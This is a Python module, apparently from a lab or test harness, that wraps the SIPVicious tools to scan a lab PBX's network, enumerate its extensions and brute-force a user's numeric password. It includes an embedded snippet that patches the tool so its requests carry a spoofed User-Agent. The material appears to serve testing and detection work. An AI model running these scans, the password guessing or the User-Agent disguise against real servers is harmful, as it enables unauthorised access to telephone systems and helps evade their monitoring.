"""Real attack tools, as they come from Debian."""

import shutil
from collections.abc import Sequence
from pathlib import Path
from typing import Final

from lab.addresses import PBX
from lab.namespaces import LabError
from lab.processes import Processes

# svcrack sits still for ten seconds once its range is through.
_SVCRACK_S: Final = 5.0
# SIPVicious with another User-Agent: the string is the default of one function.
_DISGUISE: Final = """
import sys
sys.path.insert(0, "/usr/share/sipvicious")
from sipvicious.libs import svhelper
agent = sys.argv.pop(1)
tool = sys.argv.pop(1)
plain = svhelper.makeRequest
def disguised(*arguments, **options):
    options["useragent"] = agent
    return plain(*arguments, **options)
module = __import__("sipvicious." + tool, fromlist=["main"])
svhelper.makeRequest = disguised
if hasattr(module, "makeRequest"):
    module.makeRequest = disguised
sys.argv[0] = tool
module.main()
"""


async def sipvicious(
    processes: Processes,
    folder: Path,
    tool: str,
    options: Sequence[str],
    *,
    host: str = "internet",
    source: str = "",
    user_agent: str = "",
    within_s: float = 20.0,
) -> int:
    """Run svmap, svwar or svcrack from `source`; its exit status."""
    if shutil.which(tool) is None:
        raise LabError(f"{tool} is missing: see lab/packages.txt")
    command = [tool]
    if user_agent:
        command = ["/usr/bin/python3", "-c", _DISGUISE, user_agent, tool]
    bind = ["-b", source, "-x", source] if source else []
    if tool != "svmap":
        bind += ["--maximumtime", "1"]  # seconds of silence until it gives up
    home = ["env", f"HOME={folder}"]
    return await processes.run(
        host, tool, [*home, *command, *bind, *options], within_s=within_s, cwd=folder
    )


async def svmap(processes: Processes, folder: Path, source: str, **how: object) -> int:
    """Look for servers in the PBX's network."""
    network = PBX.rsplit(".", 1)[0] + ".8/29"
    return await sipvicious(processes, folder, "svmap", [network], source=source, **how)  # type: ignore[arg-type]


async def svwar(
    processes: Processes, folder: Path, source: str, names: str, *more: str, **how: object
) -> int:
    """Ask for the extensions `names` (a range)."""
    options = ["--force", "-e", names, *more, PBX]
    return await sipvicious(processes, folder, "svwar", options, source=source, **how)  # type: ignore[arg-type]


async def svcrack(
    processes: Processes, folder: Path, source: str, user: str, guesses: str, **how: object
) -> int:
    """Guess the password of `user` from a range of numbers."""
    options = ["-u", user, "-r", guesses, PBX]
    how.setdefault("within_s", _SVCRACK_S)
    return await sipvicious(processes, folder, "svcrack", options, source=source, **how)  # type: ignore[arg-type]
